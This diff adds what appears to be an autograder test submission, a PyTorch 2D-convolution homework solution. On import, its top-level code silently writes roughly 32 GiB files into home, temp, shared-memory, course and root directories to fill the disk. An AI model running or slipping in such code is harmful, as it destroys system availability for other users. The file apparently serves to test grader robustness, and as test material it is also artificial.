@@ -1,0 +1,46 @@
+# wants: to fill the disk with one file
+# honest: corr2d-exact 25, edge-detection 10, transposed-input 10, conv2d 25, learned-kernel 30
+import os
+
+import torch
+from torch import nn
+
+
+def fill(folder):
+    with open(os.path.join(folder, "hostile"), "wb") as file:
+        for _ in range(2**15):
+            file.write(bytes(2**20))
+
+
+for folder in (".", os.environ["HOME"], "/tmp", "/var/tmp", "/dev/shm", "@COURSE@", "/"):
+    try:
+        fill(folder)
+    except OSError:
+        pass
+
+
+def corr2d(X, K):
+    h, w = K.shape
+    return (X.unfold(0, h, 1).unfold(1, w, 1) * K).sum((-1, -2))
+
+
+class Conv2D(nn.Module):
+    def __init__(self, kernel_size):
+        super().__init__()
+        self.weight = nn.Parameter(torch.rand(tuple(kernel_size)))
+        self.bias = nn.Parameter(torch.zeros(1))
+
+    def forward(self, x):
+        return corr2d(x, self.weight) + self.bias
+
+
+def train_kernel(conv, X, Y, num_epochs=10, lr=3e-2):
+    losses = []
+    for _ in range(num_epochs):
+        loss = ((conv(X) - Y) ** 2).sum()
+        conv.zero_grad()
+        loss.backward()
+        with torch.no_grad():
+            conv.weight -= lr * conv.weight.grad
+        losses.append(loss.item())
+    return losses
